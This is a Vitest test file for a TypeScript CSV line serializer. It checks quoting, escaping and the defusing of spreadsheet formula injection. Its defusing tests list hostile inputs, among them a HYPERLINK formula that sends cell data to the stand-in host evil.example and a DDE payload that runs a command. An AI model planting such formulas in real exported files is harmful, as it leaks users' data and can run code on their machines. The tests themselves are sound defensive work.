import { describe, expect, it } from 'vitest';
import { type Cell, csvLine } from './csv.ts';

describe('a line of CSV', () => {
  it.each<[string, Cell, string]>([
    ['a text is quoted', 'plain', '"plain"'],
    ['quotes within it are doubled', 'say "hi"', '"say ""hi"""'],
    ['commas and line breaks stay inside', 'a,b\r\nc', '"a,b\r\nc"'],
    ['nothing is nothing', null, ''],
    ['an empty text is one', '', '""'],
    ['a number is bare, a negative one too', -7, '-7'],
    ['a flag is a word', false, 'false'],
    ['letters beyond ASCII stay as they are', 'Zoë 🔑', '"Zoë 🔑"'],
  ])('%s', (_fact, cell, spelt) => {
    expect(csvLine([cell])).toBe(`${spelt}\r\n`);
  });

  it('has commas between cells and CRLF at its end', () => {
    expect(csvLine([1, 'a', null, true])).toBe('1,"a",,true\r\n');
  });

  it.each([
    '=1+1',
    '=HYPERLINK("http://evil.example?"&A1)',
    '+1',
    '-1',
    "@SUM(1)|cmd|' /C calc'!A0",
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
  ])('defuses %j', (formula) => {
    const line = csvLine([formula]);
    expect(line.startsWith(`"'${formula[0]}`)).toBe(true);
    expect(line).toBe(`"'${formula.replaceAll('"', '""')}"\r\n`);
  });

  it.each(['a=1', 'x-1', "'=1", ' =1', '1+1', '{"=":1}'])('leaves %j alone', (text) => {
    expect(csvLine([text])).toBe(`"${text.replaceAll('"', '""')}"\r\n`);
  });
});
